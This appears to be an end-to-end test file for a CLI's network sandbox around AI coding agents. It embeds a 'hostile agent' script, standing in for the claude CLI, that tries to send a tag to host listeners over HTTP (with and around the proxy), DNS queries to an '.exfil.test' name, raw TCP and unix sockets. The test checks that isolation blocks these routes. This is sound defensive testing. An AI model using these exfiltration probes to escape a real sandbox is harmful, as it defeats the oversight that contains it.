// The network policy (SPEC §7 "Network") end to end, through the built CLI on real repositories: a
// hostile agent (a stand-in of the claude CLI, key proxy on) tries to send a tag to hosts of the
// machine outside its policy, by HTTP (through its proxy variables, and around them), by DNS (a
// query to a resolver of the test's), by raw TCP and through a unix socket of the host (one in a
// folder outside the work tree, one abstract); each listener records what reached it. At user+pidns
// and pidns nothing reaches them, the refused host is logged by name, the agent's own model call goes
// through and the run converges; with `agent.network: open` the same agent reaches every one (so the
// test can fail). A criterion that calls the host is offline unless `checks.network: open`; at `none`
// the certificate records the policy as not enforced.
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import { chmod, readFile, rm, writeFile } from 'node:fs/promises';
import { networkInterfaces } from 'node:os';
import { dirname, join } from 'node:path';
import { checkStateDir, cli, config, git, makeRepo, NORTHSTAR, readJson, type CliResult } from '../helpers/repo.js';
import { cliAtPidns, createLoopUser, deleteLoopUser, ROOT } from '../helpers/users.js';
import { EXIT_CODES } from '../../src/engine/run/fsm.js';
import { isolationFacts } from '../helpers/isolation.js';

const facts = await isolationFacts();
const available = { 'user+pidns': ROOT && facts.userPidns === null, pidns: (ROOT ? facts.userPidns : facts.pidns) === null };
const LEVELS = (['user+pidns', 'pidns'] as const).filter((l) => available[l]);
/** An address of this machine other than loopback: a namespace's own loopback is not the host's, this one is. */
const HOST = Object.values(networkInterfaces())
  .flat()
  .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;

const REPORT = JSON.stringify({ tried: ['x'], claims: ['done'], failures: [], open_questions: [], can_further_iteration_help: false });
const RESULT = JSON.stringify({
  type: 'result',
  subtype: 'success',
  is_error: false,
  total_cost_usd: 0.01,
  num_turns: 1,
  result: 'done',
  usage: { input_tokens: 1, output_tokens: 1 },
});

/** The listeners of the host the agent tries, and what reached each. */
interface Host {
  http: number;
  tcp: number;
  dns: number;
  socket: string;
  abstract: string;
  reached: Set<string>;
  close(): Promise<void>;
}

async function hostListeners(dir: string, tag: string): Promise<Host> {
  const reached = new Set<string>();
  const saw = (channel: string, data: string) => data.includes(tag) && reached.add(channel);
  const httpServer = http.createServer((q, r) => (saw('http', q.url ?? ''), r.end('host\n')));
  const sink = (channel: string) => net.createServer((s) => s.on('data', (d: Buffer) => saw(channel, d.toString())).on('error', () => undefined));
  const tcp = sink('tcp');
  const unix = sink('unix');
  const abstract = sink('abstract');
  const dns = dgram.createSocket('udp4', (m) => saw('dns', m.toString('latin1')));
  const socket = join(dir, 'host.sock');
  const abstractName = `\0phuc-net-cli-${tag}`;
  const listening = (s: net.Server) => new Promise((r) => s.once('listening', r));
  httpServer.listen(0, '0.0.0.0');
  tcp.listen(0, '0.0.0.0');
  unix.listen(socket);
  abstract.listen(abstractName);
  await Promise.all([httpServer, tcp, unix, abstract].map(listening));
  await new Promise<void>((r) => dns.bind(0, HOST, () => r()));
  await chmod(socket, 0o777);
  const port = (s: net.Server) => (s.address() as net.AddressInfo).port;
  return {
    http: port(httpServer),
    tcp: port(tcp),
    dns: dns.address().port,
    socket,
    abstract: abstractName,
    reached,
    close: async () => {
      httpServer.closeAllConnections();
      dns.close();
      await Promise.all([httpServer, tcp, unix, abstract].map((s) => new Promise((r) => s.close(r))));
    },
  };
}

/**
 * A stand-in of the claude CLI (agent.run replaces its executable) that calls its model API through
 * the key proxy, tries every way to the host, and writes what it got to src/net.txt.
 */
const hostileAgent = (h: Host, tag: string) => `
import { execFileSync } from 'node:child_process';
import dns from 'node:dns';
import { mkdirSync, writeFileSync } from 'node:fs';
import net from 'node:net';
if (process.argv[2] === '--version') { console.log('2.1.330 (stand-in)'); process.exit(0); }
const out = [];
const within = (p) => Promise.race([p, new Promise((r) => setTimeout(() => r('TIMEOUT'), 5000))]);
const send = (...to) => within(new Promise((resolve) => {
  const s = net.connect(...to, () => s.end(${JSON.stringify(tag)}, () => resolve('SENT')));
  s.on('error', (e) => resolve('BLOCKED ' + e.code));
}));
const curl = (...a) => { try { return execFileSync('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', '-m', '5', ...a], { encoding: 'utf8' }); } catch (e) { return String(e.stdout || 'failed'); } };
out.push('own=' + (await fetch(process.env.ANTHROPIC_BASE_URL + '/v1/messages', { method: 'POST', headers: { 'x-api-key': process.env.ANTHROPIC_API_KEY }, body: '{}' }).then((r) => r.status, (e) => 'BLOCKED ' + e.message)));
out.push('http-proxy=' + curl('http://${HOST}:${String(h.http)}/via-proxy-${tag}'));
out.push('http-direct=' + curl('--noproxy', '*', 'http://${HOST}:${String(h.http)}/direct-${tag}'));
const resolver = new dns.promises.Resolver({ timeout: 2000, tries: 1 });
resolver.setServers(['${HOST}:${String(h.dns)}']);
out.push('dns=' + (await within(resolver.resolve4('${tag}.exfil.test').then(() => 'ANSWERED', (e) => 'BLOCKED ' + e.code))));
out.push('tcp=' + (await send(${String(h.tcp)}, '${HOST}')));
out.push('unix=' + (await send(${JSON.stringify(h.socket)})));
out.push('abstract=' + (await send(${JSON.stringify(h.abstract)})));
mkdirSync('src', { recursive: true });
writeFileSync('src/net.txt', out.join('\\n') + '\\n');
writeFileSync(process.env.PHUC_REPORT_FILE, ${JSON.stringify(REPORT)});
console.log(${JSON.stringify(RESULT)});
`;

/** A model API stand-in (the key proxy's upstream): counts the calls that reached it. */
async function modelApi(): Promise<{ url: string; calls: () => number; close(): Promise<void> }> {
  let calls = 0;
  const server = http.createServer((_q, r) => (calls++, r.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}')));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${String((server.address() as net.AddressInfo).port)}`,
    calls: () => calls,
    close: () => (server.closeAllConnections(), new Promise((r) => server.close(() => r()))),
  };
}

/** Runs the loop on `repo` at `level` (pidns as root: through a user of the test's own). */
async function runAt(level: 'user+pidns' | 'pidns' | 'none', repo: string, env: Record<string, string>): Promise<CliResult> {
  if (level !== 'pidns') return cli(repo, ['run', '--isolation', level], env);
  const user = ROOT ? await createLoopUser() : null;
  try {
    return await cliAtPidns(user, repo, ['run'], env);
  } finally {
    await deleteLoopUser(user ?? undefined);
  }
}

/** The certificate the run halted on (the baseline's where HEAD passed without a step). */
const cert = (repo: string) =>
  readJson<Record<string, any>>(join(repo, 'evidence/loop', existsSync(join(repo, 'evidence/loop/iter_0')) ? 'iter_0' : 'baseline', 'certificate.json'));

(HOST ? describe : describe.skip).each(LEVELS)('isolation %s', (level) => {
  test.each(['model API only', 'open'] as const)(
    'agent.network: %s — HTTP, DNS, raw TCP and unix sockets of the host; the model API through the key proxy',
    async (policy) => {
      const tag = `phuc${randomBytes(5).toString('hex')}`;
      const repo = await makeRepo({
        'phuc-loop.yml': config({ criteria: [{ id: 'probed', run: 'test -s src/net.txt' }], agent: 'placeholder', extra: 'budget:\n  max_iterations: 1\n' }),
        'NORTHSTAR.md': NORTHSTAR,
        'src/.keep': '',
      });
      // The host's unix socket sits outside the work tree, in a folder every user can enter that is no
      // scratch folder (/tmp is a layer of the command's own: a socket there is out of reach anyway).
      const sockets = await checkStateDir();
      await chmod(sockets, 0o755);
      const host = await hostListeners(sockets, tag);
      const api = await modelApi();
      try {
        // Beside the socket, not in /tmp (a scratch folder: empty to the command where overlayfs cannot mount it).
        const script = join(sockets, 'claude-standin.mjs');
        await writeFile(script, hostileAgent(host, tag), { mode: 0o755 });
        const yml = (await readFile(join(repo, 'phuc-loop.yml'), 'utf8')).replace(
          /agent:\n {2}use: command\n {2}run: .*\n/,
          `agent:\n  use: claude\n  run: ${JSON.stringify(`node ${script}`)}\n  key_proxy: true\n${policy === 'open' ? '  network: open\n' : ''}`,
        );
        expect(yml).toContain('use: claude');
        await writeFile(join(repo, 'phuc-loop.yml'), yml);
        await git(repo, 'commit', '-qam', 'config');

        const r = await runAt(level, repo, { ANTHROPIC_API_KEY: `sk-ant-api03-${tag}`, ANTHROPIC_BASE_URL: api.url });
        if (r.code !== 0) expect(r.stdout.slice(-3000) + r.stderr.slice(-3000)).toBe('');
        expect(r.code).toBe(0);
        const got = Object.fromEntries(
          (await git(repo, 'show', 'HEAD:src/net.txt'))
            .trim()
            .split('\n')
            .map((l) => l.split('=')),
        );
        // Its model API, through the key proxy, in both.
        expect(got.own).toBe('200');
        expect(api.calls()).toBe(1);
        const refusal = `network: the agent asked for ${String(HOST)}:${String(host.http)} (HTTP GET), which agent.network does not allow`;
        if (policy === 'open') {
          expect([got, [...host.reached].sort()]).toEqual([
            { own: '200', 'http-proxy': '200', 'http-direct': '200', dns: expect.any(String), tcp: 'SENT', unix: 'SENT', abstract: 'SENT' },
            ['abstract', 'dns', 'http', 'tcp', 'unix'],
          ]);
          expect(r.stdout + r.stderr).not.toContain('network: the agent asked for');
          expect((await cert(repo)).network).toEqual({ agent: 'open', checks: 'loopback', setup: 'open', enforced: true });
        } else {
          expect([got, [...host.reached]]).toEqual([
            {
              own: '200',
              'http-proxy': '403',
              'http-direct': '000',
              dns: expect.stringMatching(/^BLOCKED/),
              tcp: expect.stringMatching(/^BLOCKED/),
              unix: expect.stringMatching(/^BLOCKED/),
              abstract: expect.stringMatching(/^BLOCKED/),
            },
            [],
          ]);
          expect(r.stdout + r.stderr).toContain(refusal);
          expect((await cert(repo)).network).toEqual({ agent: 'model-api-only', checks: 'loopback', setup: 'open', enforced: true });
        }
      } finally {
        await api.close();
        await host.close();
        await rm(sockets, { recursive: true, force: true });
        await rm(dirname(repo), { recursive: true, force: true });
      }
    },
    180_000,
  );

  test.each(['loopback', 'open'] as const)(
    'checks.network: %s — a criterion that calls a host of the machine',
    async (checks) => {
      const tag = `phuc${randomBytes(5).toString('hex')}`;
      const repo = await makeRepo({
        'phuc-loop.yml': config({
          criteria: [{ id: 'online', run: `curl -sf -m 5 --noproxy '*' http://${String(HOST)}:PORT/check-${tag}` }],
          agent: `mkdir -p src && echo tried >> src/tries.txt && printf '%s' '${REPORT}' > "$PHUC_REPORT_FILE"`,
          extra: `budget:\n  max_iterations: 1\nnorthstar_neutral_reason: the criterion is the goal\n${checks === 'open' ? 'checks:\n  network: open\n' : ''}`,
        }),
        'NORTHSTAR.md': NORTHSTAR,
      });
      const host = await hostListeners(dirname(repo), tag);
      try {
        const yml = await readFile(join(repo, 'phuc-loop.yml'), 'utf8');
        await writeFile(join(repo, 'phuc-loop.yml'), yml.replace('PORT', String(host.http)));
        await git(repo, 'commit', '-qam', 'port');
        const r = await runAt(level, repo, {});
        if (checks === 'open') {
          // HEAD passes at the baseline: the run converges without a step, the host saw the check.
          expect([r.code, r.stdout]).toEqual([0, expect.stringContaining('certificate EXACT without an agent step')]);
          expect([...host.reached]).toEqual(['http']);
        } else {
          // Offline: curl cannot connect (7), and the run ends on its budget, the host never asked.
          expect([r.code, r.stdout]).toEqual([EXIT_CODES.EXIT_BUDGET_EXCEEDED, expect.stringContaining('failing: online (exit 7)')]);
          expect([...host.reached]).toEqual([]);
        }
        expect((await cert(repo)).network).toMatchObject({ checks, enforced: true });
        // verify --rerun runs the criterion with the network the certificate records: the same outcome.
        const v = await cli(repo, ['verify', '--rerun']);
        expect([v.code, v.stdout, v.stderr]).toEqual([0, expect.stringContaining(`the checks' network ${checks}\n`), expect.any(String)]);
        expect([...host.reached]).toEqual(checks === 'open' ? ['http'] : []);
      } finally {
        await host.close();
        await rm(dirname(repo), { recursive: true, force: true });
      }
    },
    180_000,
  );
});

test('at none the certificate records the policy as not enforced, and its limits say so', async () => {
  const repo = await makeRepo({
    'phuc-loop.yml': config({ criteria: [{ id: 'done', run: 'test -f src/done.txt' }], agent: 'mkdir -p src && touch src/done.txt' }),
    'NORTHSTAR.md': NORTHSTAR,
  });
  try {
    const r = await runAt('none', repo, {});
    expect([r.code, r.stderr.slice(-2000)]).toEqual([0, expect.any(String)]);
    const c = await cert(repo);
    expect(c.network).toEqual({ agent: 'model-api-only', checks: 'loopback', setup: 'open', enforced: false });
    const report = await readJson<{ isolation_limits: string[] }>(join(repo, 'evidence/loop/halting_report.json'));
    expect(report.isolation_limits.join('\n')).toMatch(/network policy \(agent.network, checks.network\) is not enforced: at isolation none/);
  } finally {
    await rm(dirname(repo), { recursive: true, force: true });
  }
}, 120_000);
